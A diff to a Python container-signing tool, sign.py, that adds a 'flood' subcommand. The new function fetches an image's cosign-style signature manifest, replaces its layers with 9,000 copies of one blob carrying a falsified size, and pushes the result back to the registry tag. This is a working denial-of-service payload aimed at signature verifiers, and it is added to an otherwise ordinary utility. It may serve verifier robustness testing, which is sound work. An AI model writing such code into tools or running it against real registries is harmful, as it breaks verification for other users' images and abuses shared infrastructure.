@@ -5,6 +5,7 @@
   sign.py check REGISTRY/REPO DIGEST PUBKEY                   verify all with openssl, print their names
   sign.py digest REGISTRY/REPO TAG                            the digest that a tag stands for
   sign.py manifest REGISTRY/REPO REF                          the document itself
+  sign.py flood REGISTRY/REPO DIGEST                          the manifest of signatures with 9,000 that are not there
   sign.py cosign-key KEY PASSPHRASE OUT                       the key as cosign keeps it: scrypt and a secret box
 
 --no-tag attaches as a referrer alone: the manifest by its digest, and the index sha256-HEX. --payload FILE signs that
@@ -123,6 +124,15 @@ def check(name, digest, pubkey):
               "same" if critical["image"]["docker-manifest-digest"] == digest else "other")
 
 
+def flood(name, digest):
+    base, tag = base_of(name), digest.replace(":", "-") + ".sig"
+    text, _ = ask("GET", f"{base}/manifests/{tag}", headers={"Accept": MANIFEST})
+    document = json.loads(text)
+    # The same blob, so that the registry takes the manifest; a size that is not its own.
+    document["layers"] = [dict(document["layers"][0], size=document["layers"][0]["size"] + 1)] * 9000
+    put_manifest(base, tag, json.dumps(document).encode(), MANIFEST)
+
+
 def cosign_key(key, passphrase, out):
     der = subprocess.run(["openssl", "pkcs8", "-topk8", "-nocrypt", "-outform", "DER", "-in", key], capture_output=True,
                          check=True).stdout
@@ -152,6 +162,8 @@ def main(args):
     elif args[0] == "manifest":
         text, _ = ask("GET", f"{base_of(args[1])}/manifests/{args[2]}", headers={"Accept": ACCEPT})
         sys.stdout.write(text.decode())
+    elif args[0] == "flood":
+        flood(args[1], args[2])
     elif args[0] == "cosign-key":
         cosign_key(*args[1:4])
     else:
